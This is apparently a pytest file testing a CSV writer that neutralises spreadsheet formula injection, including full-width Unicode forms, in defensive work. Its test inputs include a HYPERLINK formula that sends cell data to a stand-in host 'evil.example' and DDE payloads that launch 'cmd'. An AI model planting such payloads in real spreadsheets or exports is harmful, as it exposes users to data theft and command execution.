"""The one rule for CSV cells a spreadsheet would run as a formula (factcheck.spreadsheet)."""

import csv
import io
import sys
import unicodedata
from decimal import Decimal

import pytest

from factcheck.spreadsheet import FORMULA_STARTS, SpreadsheetWriter, spreadsheet_safe


@pytest.mark.parametrize(
    ("text", "written"),
    [
        # OWASP's leading characters, as the attacks write them
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("https://evil.example/?"&A2,"details")', '\'=HYPERLINK("https://evil.example/?"&A2,"details")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\rtext", "'\rtext"),
        ("\ttext", "'\ttext"),
        ("\x00x", "'\x00x"),
        # full-width, as a Chinese input method types them, and the small forms
        ("＝1+1", "'＝1+1"),
        ("＋86 138", "'＋86 138"),
        ("－3", "'－3"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ("﹦1", "'﹦1"),
        # after leading whitespace (LibreOffice may trim it on import)
        (" =1+1", "' =1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("\u3000＝1+1", "'\u3000＝1+1"),
        ("\xa0-1", "'\xa0-1"),
        # a number in a text cell is text all the same: prefixed, as OWASP says
        ("-3", "'-3"),
        # left alone
        ("", ""),
        ("plain text", "plain text"),
        ("处理时间超过十秒", "处理时间超过十秒"),
        ("1+1=2", "1+1=2"),
        ("a = b", "a = b"),
        (" leading space", " leading space"),
        ("   ", "   "),
        ("'quoted", "'quoted"),
        ('["AI 视频","=1+1"]', '["AI 视频","=1+1"]'),
        ("https://example.org/a=1", "https://example.org/a=1"),
        ("\u2212" + "3", "\u2212" + "3"),  # MINUS SIGN: no spreadsheet starts a formula with it
    ],
)
def test_spreadsheet_safe(text, written):
    assert spreadsheet_safe(text) == written


def test_a_safe_cell_read_back_is_the_text_after_the_quote():
    for text in ("=1+1", "＠x", " -1", "plain"):
        safe = spreadsheet_safe(text)
        assert safe.removeprefix("'") == text


def test_the_formula_characters_are_every_compatibility_form_of_them():
    """FORMULA_STARTS is written out; Unicode decides what belongs in it."""
    derived = {
        c for c in map(chr, range(sys.maxunicode + 1)) if unicodedata.normalize("NFKC", c)[:1] in ("=", "+", "-", "@")
    }
    assert set(FORMULA_STARTS) == derived
    assert {"＝", "＋", "－", "＠"} <= derived


def test_the_writer_makes_text_cells_safe_and_leaves_numbers_alone():
    buffer = io.StringIO()
    writer = SpreadsheetWriter(buffer)
    writer.writerow([-3, Decimal("-3.500000"), None, "-3", "=1+1", 'say "=x", ok'])
    writer.writerows([["＋1", 7]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert rows == [["-3", "-3.500000", "", "'-3", "'=1+1", 'say "=x", ok'], ["'＋1", "7"]]


def test_with_its_text_columns_named_the_writer_looks_at_those_only():
    buffer = io.StringIO()
    writer = SpreadsheetWriter(buffer, text_columns=[1, 2])
    writer.writerow(["-3", "=1+1", None, -4])  # column 0 is the caller's own (a number it formatted)
    writer.writerow(["ok", "plain", "＠x", 5])
    rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert rows == [["-3", "'=1+1", "", "-4"], ["ok", "plain", "'＠x", "5"]]
